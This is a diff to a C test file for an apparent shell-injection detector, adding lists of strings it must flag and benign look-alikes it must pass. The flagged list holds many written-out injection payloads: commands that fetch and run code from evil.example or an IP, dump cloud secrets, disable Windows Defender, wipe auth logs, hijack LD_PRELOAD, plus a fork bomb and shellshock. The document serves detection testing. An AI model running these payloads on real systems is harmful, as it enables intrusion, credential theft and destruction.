@@ -11,6 +11,57 @@
 
 static const char *const found[] = {
 	/* true */
+	/* tools behind data, words of the shell, variables and options that run something */
+	"10.0.0.1; kubectl get secrets -A",
+	"img.png; aws s3 ls",
+	"a1 && aws sts get-caller-identity",
+	"10.0.0.1|gcloud auth print-access-token",
+	"x; docker run -v /:/mnt alpine chroot /mnt",
+	"10.0.0.1; terraform state pull",
+	"a;pip install http://evil.example/x.tgz",
+	"a;git -c core.pager=id log",
+	"a;make -f <(printf x)",
+	"a;ssh-keygen -D /tmp/x.so",
+	"a;trap 'curl evil.example' EXIT",
+	";trap id EXIT",
+	"a;set -- id;",
+	";case a in a) id;;esac",
+	";for i in 1 2;do id;done",
+	";if id;then id;fi",
+	";coproc id",
+	"a;:>/var/log/auth.log",
+	"a;f(){ id;};f",
+	"a;alias z=id;z",
+	";$0<<<id",
+	";${SHELL} -c id",
+	"x;h=hostname;$h",
+	"x;${PWD%%[!/]*}bin${PWD%%[!/]*}id",
+	"x;/*/b?n/?d",
+	"a;w>/tmp/w",
+	"x & call %a%%b%",
+	"x & netsh advfirewall set allprofiles state off",
+	"1&ver&",
+	"x; [System.Diagnostics.Process]::Start('cmd.exe','/c calc')",
+	"x; Set-MpPreference -DisableRealtimeMonitoring $true",
+	"; Stop-Computer",
+	"LD_PRELOAD=/tmp/evil.so ls",
+	"BASH_ENV=/tmp/x bash -c true",
+	"BASH_FUNC_ls%%=() { id; }",
+	"--checkpoint=1 --checkpoint-action=exec=sh x.sh",
+	"-X/var/www/x.php -OQueueDirectory=/tmp a@b.example",
+	"--interpreter=/bin/sh",
+	"--config=core.sshCommand=id",
+	"-w /dev/null -W 1 -z /tmp/x.sh -Z root",
+	"$(touch pwned).zip",
+	"mallory@$(hostname).evil.example",
+	"a.example;reboot",
+	"10.0.0.1; hostname",
+	"x|touch \"/tmp/p",
+	"cmd.exe /c calc.exe",
+	"a\n~!id\nb",
+	"$(<flag.txt)",
+	"x;ip addr",
+	"cd /tmp; busybox wget http://198.51.100.7/a; sh a",
 	/* shellshock and processes that multiply */
 	":(){ :|:& };:",
 	"() { :;}; /bin/bash -c \"curl http://evil.example\"",
@@ -618,6 +669,39 @@ static const char *const found[] = {
 };
 
 static const char *const left[] = {
+	/* tools in builds and in lists, constructs in prose */
+	"lint && docker build -t app .",
+	"typecheck && kubectl apply -f k8s/",
+	"update; reboot",
+	"name;host;reboot;status",
+	"kubectl get pods; kubectl logs -f web",
+	"docker, run by us; it is slow",
+	"a; docker is run by all of them here",
+	"trap 'rm -f x' EXIT",
+	"for you; do it",
+	"case closed; in the end",
+	"while you wait; do read",
+	"LD_PRELOAD=/usr/lib/libjemalloc.so.2",
+	"BASH_ENV=/root/.bashrc",
+	"NODE_OPTIONS=--max-old-space-size=4096",
+	"--config=/etc/app/config.yaml",
+	"--filter=blob:none",
+	"-XX:OnOutOfMemoryError=kill -9 %p",
+	"price;$0;$5",
+	"~!important",
+	"Set-up; Get-Started",
+	"get-together; set-top",
+	"tmp=$(mktemp -d); cd x",
+	"$(hostname)",
+	"backup-$(hostname)-x.tar.gz",
+	"Hydra & Medusa",
+	"mix; match",
+	"salt; pepper; stack",
+	"links; look; replace",
+	"php; elixir; scala",
+	"10.0.0.1; date of birth",
+	"Get-Date",
+	"terraform | ansible | packer",
 	/* false */
 	/* builds and scripts as they are */
 	"npm ci && npm test",
@@ -863,7 +947,9 @@ static void each_command(const struct ew_analyser *a)
 		unsorted += ew_shell_traits(ew_bytes_str(name)) == 0;
 	}
 	ok(n > 300, "%zu commands are known", n);
-	is_int(unsorted, 0, "their table is sorted, each is found in it");
+	for (size_t i = 1; ew_shell_verb(i); i++)
+		unsorted += strcmp(ew_shell_verb(i - 1), ew_shell_verb(i)) >= 0;
+	is_int(unsorted, 0, "their tables are sorted, each is found in it");
 	is_int(wrong, 0, "each is found with a file of the system");
 }
 
@@ -883,6 +969,13 @@ static void nasty(const struct ew_analyser *a)
 		";id '",
 		";id \"",
 		"$IFS",
+		";case a in ",
+		";for a do ",
+		";trap '",
+		";aws s3 ",
+		";$0 ",
+		"=id;$a ",
+		"ld_preload=/",
 		"${",
 		"{cat,",
 		";a=",
